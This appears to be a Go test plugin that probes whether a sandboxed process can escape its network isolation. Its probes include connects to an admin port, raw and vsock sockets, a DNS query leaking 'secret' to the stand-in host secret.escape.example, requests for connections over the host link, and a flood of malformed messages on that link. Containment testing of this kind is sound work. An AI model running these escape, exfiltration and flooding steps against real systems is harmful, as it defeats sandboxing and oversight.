package main

import (
	"encoding/json"
	"errors"
	"fmt"
	"net"
	"net/netip"
	"strconv"
	"strings"
	"time"

	"golang.org/x/sys/unix"

	"github.com/segue-run/segue/plugins/chaos/escape/attack"
	"github.com/segue-run/segue/sdk/wire"
)

const mptcp = 262 // IPPROTO_MPTCP

// address is a parameter as a socket's address.
func (t target) address(name string) (unix.Sockaddr, error) {
	a, err := netip.ParseAddrPort(t.Get(name))
	if err != nil {
		return nil, err
	}
	return &unix.SockaddrInet4{Port: int(a.Port()), Addr: a.Addr().As4()}, nil
}

// alone reports whether this network namespace has nothing in it that could carry
// anything. What it cannot find out it takes for a no.
func alone() bool {
	addresses, err := net.InterfaceAddrs()
	return err == nil && len(addresses) == 0
}

// within is the verdict on what works in a network of its own as well.
func within(what string, err error) verdict {
	if err == nil && alone() {
		return contained("%s worked, in a network without anything", what)
	}
	return failed(what, err)
}

// connect connects by TCP, blocking for two seconds.
func connect(t target, name string, protocol int) verdict {
	to, err := t.address(name)
	if err != nil {
		return stopped("%v", err)
	}
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_STREAM|unix.SOCK_CLOEXEC, protocol)
	if err != nil {
		return stopped("socket: %v", err)
	}
	defer unix.Close(fd)
	_ = unix.SetsockoptTimeval(fd, unix.SOL_SOCKET, unix.SO_SNDTIMEO, &unix.Timeval{Sec: 2})
	return failed("connect "+t.Get(name), unix.Connect(fd, to))
}

func connectAdminPort(t target) verdict { return connect(t, attack.Admin, 0) }
func connectTCP(t target) verdict       { return connect(t, attack.TCP, 0) }
func connectMPTCP(t target) verdict     { return connect(t, attack.TCP, mptcp) }

func fastOpen(t target) verdict {
	to, err := t.address(attack.TCP)
	if err != nil {
		return stopped("%v", err)
	}
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_STREAM|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		return stopped("socket: %v", err)
	}
	defer unix.Close(fd)
	return failed("sendto MSG_FASTOPEN", unix.Sendto(fd, []byte("x"), unix.MSG_FASTOPEN, to))
}

func bindPort(target) verdict {
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_STREAM|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		return stopped("socket: %v", err)
	}
	defer unix.Close(fd)
	if err := unix.Bind(fd, &unix.SockaddrInet4{}); err != nil {
		return stopped("bind: %v", err)
	}
	return within("bind and listen", unix.Listen(fd, 1))
}

func listenUnbound(target) verdict {
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_STREAM|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		return stopped("socket: %v", err)
	}
	defer unix.Close(fd)
	return within("listen", unix.Listen(fd, 1))
}

// converse sends a datagram and waits a moment for the answer.
func converse(t target, what string, message []byte) verdict {
	to, err := t.address(attack.UDP)
	if err != nil {
		return stopped("%v", err)
	}
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_DGRAM|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		return stopped("socket: %v", err)
	}
	defer unix.Close(fd)
	_ = unix.SetsockoptTimeval(fd, unix.SOL_SOCKET, unix.SO_RCVTIMEO, &unix.Timeval{Sec: 1})
	sent := unix.Sendto(fd, message, 0, to)
	if sent != nil {
		if err := unix.Connect(fd, to); err != nil {
			return stopped("sendto: %v; connect: %v", sent, err)
		}
		if _, err := unix.Write(fd, message); err != nil {
			return stopped("sendto: %v; write: %v", sent, err)
		}
	}
	n, err := unix.Read(fd, make([]byte, 1500))
	if err != nil || n == 0 {
		return stopped("%s was sent, and nobody answered: %v", what, err)
	}
	return escaped("%s was answered with %d bytes", what, n)
}

func sendUDP(t target) verdict { return converse(t, "a datagram", []byte("a secret")) }

// exfiltrate asks for the address of secret.escape.example.
func exfiltrate(t target) verdict {
	query := []byte("\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x06secret\x06escape\x07example\x00\x00\x01\x00\x01")
	v := converse(t, "a query", query)
	if v.outcome == attack.Escaped {
		return v
	}
	if found, err := net.LookupHost("secret.escape.example"); err == nil {
		return escaped("the name has the addresses %v", found)
	} else if dns, ok := errors.AsType[*net.DNSError](err); ok && dns.IsNotFound && !dns.IsTemporary && dns.Server != "" {
		return escaped("%s says that there is no such name", dns.Server)
	}
	return v
}

func rawSockets(target) verdict {
	var steps []step
	for what, s := range map[string][3]int{
		"raw ICMP": {unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_ICMP}, "raw IPv6": {unix.AF_INET6, unix.SOCK_RAW, unix.IPPROTO_ICMPV6},
		"packet": {unix.AF_PACKET, unix.SOCK_RAW, 0x0300}, "ping": {unix.AF_INET, unix.SOCK_DGRAM, unix.IPPROTO_ICMP},
	} {
		steps = append(steps, step{what, func() error { return opensSocket(s[0], s[1], s[2]) }})
	}
	v := each(steps...)
	if v.outcome == attack.Escaped && alone() {
		return verdict{attack.Contained, v.detail}
	}
	return v
}

func opensSocket(family, kind, protocol int) error {
	fd, err := unix.Socket(family, kind|unix.SOCK_CLOEXEC, protocol)
	if err == nil {
		_ = unix.Close(fd)
	}
	return err
}

func askNetlink(target) verdict {
	return within("socket AF_NETLINK", opensSocket(unix.AF_NETLINK, unix.SOCK_RAW, unix.NETLINK_ROUTE))
}

func reachHypervisor(target) verdict {
	return failed("socket AF_VSOCK", opensSocket(unix.AF_VSOCK, unix.SOCK_STREAM, 0))
}

// oddFamilies opens sockets of every family but the one that a module needs, and those
// that have an attack of their own.
func oddFamilies(target) verdict {
	var opened []string
	for family := range unix.AF_MAX {
		switch family {
		case unix.AF_UNIX, unix.AF_INET, unix.AF_INET6, unix.AF_NETLINK, unix.AF_PACKET, unix.AF_VSOCK:
			continue
		}
		for _, kind := range []int{unix.SOCK_STREAM, unix.SOCK_DGRAM, unix.SOCK_RAW, unix.SOCK_SEQPACKET} {
			if opensSocket(family, kind, 0) == nil {
				opened = append(opened, strconv.Itoa(family))
				break
			}
		}
	}
	if len(opened) > 0 {
		return escaped("families %s", strings.Join(opened, " "))
	}
	return stopped("none of the others")
}

// link is the descriptor of the link to the host, or an error where there is none.
func link() (int, error) {
	// The name in the environment is gone once the SDK has taken the link.
	kind, err := unix.GetsockoptInt(wire.LinkFD, unix.SOL_SOCKET, unix.SO_TYPE)
	if err != nil || kind != unix.SOCK_SEQPACKET {
		return 0, errors.New("this process has no link to the host")
	}
	return wire.LinkFD, nil
}

// dialByLink asks for connections in the host's own words, and waits for the answer.
func dialByLink(t target) verdict {
	fd, err := link()
	if err != nil {
		return stopped("%v", err)
	}
	own, err := unix.FcntlInt(uintptr(fd), unix.F_DUPFD_CLOEXEC, 0)
	if err != nil {
		return stopped("dup: %v", err)
	}
	defer unix.Close(own)
	for _, do := range []string{wire.LinkDial, wire.LinkListen} {
		ask, err := json.Marshal(wire.LinkRequest{ID: 1 << 40, Do: do, Network: "tcp", Address: t.Get(attack.Admin), TimeoutMS: 1000})
		if err != nil {
			return stopped("%v", err)
		}
		if err := unix.Sendmsg(own, ask, nil, nil, 0); err != nil {
			return stopped("send: %v", err)
		}
		if n, _ := unix.Poll([]unix.PollFd{{Fd: int32(own), Events: unix.POLLIN}}, 3000); n == 0 {
			return stopped("%s: no answer", do)
		}
		message, control := make([]byte, wire.MaxLinkMessage), make([]byte, 64)
		n, rights, _, _, err := unix.Recvmsg(own, message, control, unix.MSG_DONTWAIT|unix.MSG_CMSG_CLOEXEC)
		switch {
		case err != nil:
			return stopped("%s: %v", do, err)
		case rights > 0:
			return escaped("%s: a descriptor came: %s", do, message[:n])
		}
		err = fmt.Errorf("%s", message[:n])
		if v := failed(do, err); do == wire.LinkListen {
			return v
		}
	}
	return stopped("no answer")
}

func floodLink(target) verdict {
	fd, err := link()
	if err != nil {
		return stopped("%v", err)
	}
	end := time.Now().Add(5 * time.Second)
	big := []byte(strings.Repeat("[", wire.MaxLinkMessage))
	sent := 0
	for n := 0; n < 20_000 && time.Now().Before(end); n++ {
		for _, message := range [][]byte{big, {0}, []byte(`{"id":1,"do":"dial","network":"tcp","address":"127.0.0.1:1"}`)} {
			switch err := unix.Sendmsg(fd, message, nil, nil, unix.MSG_DONTWAIT|unix.MSG_NOSIGNAL); {
			case err == nil:
				sent++
			case errors.Is(err, unix.EAGAIN):
				time.Sleep(time.Millisecond)
			default:
				return contained("%d messages, then %v", sent, err)
			}
		}
	}
	return contained("%d messages", sent)
}
